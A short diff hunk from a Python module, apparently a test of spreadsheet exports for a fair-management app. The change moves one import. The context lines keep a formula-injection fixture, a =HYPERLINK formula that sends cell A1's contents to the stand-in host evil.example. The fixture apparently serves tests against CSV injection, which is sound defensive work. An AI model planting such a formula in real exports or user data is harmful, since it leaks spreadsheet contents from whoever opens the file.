@@ -20,7 +20,7 @@ from app.fairs.models import Fair
 from app.floor.kinds import PostKind, Unit
 from app.floor.models import Post
 from app.people.models import Participant
-from app.people.sectors import Sector
+from app.network.sectors import Sector
 
 BOM = b"\xef\xbb\xbf"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
